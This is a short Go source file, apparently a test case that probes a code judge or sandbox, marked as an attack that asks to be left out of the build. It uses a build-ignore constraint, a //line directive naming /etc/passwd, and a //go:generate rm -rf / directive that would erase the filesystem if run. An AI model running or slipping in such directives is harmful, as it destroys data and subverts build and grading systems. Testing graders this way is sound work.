// Attack: asks to be left out of the build
// Verdict: AC

//go:build ignore && windows

//line /etc/passwd:1
package solution

import "fmt"

//go:generate rm -rf /
//go:noinline
func whisper(n int) string { return fmt.Sprint("heard ", 7*n) }
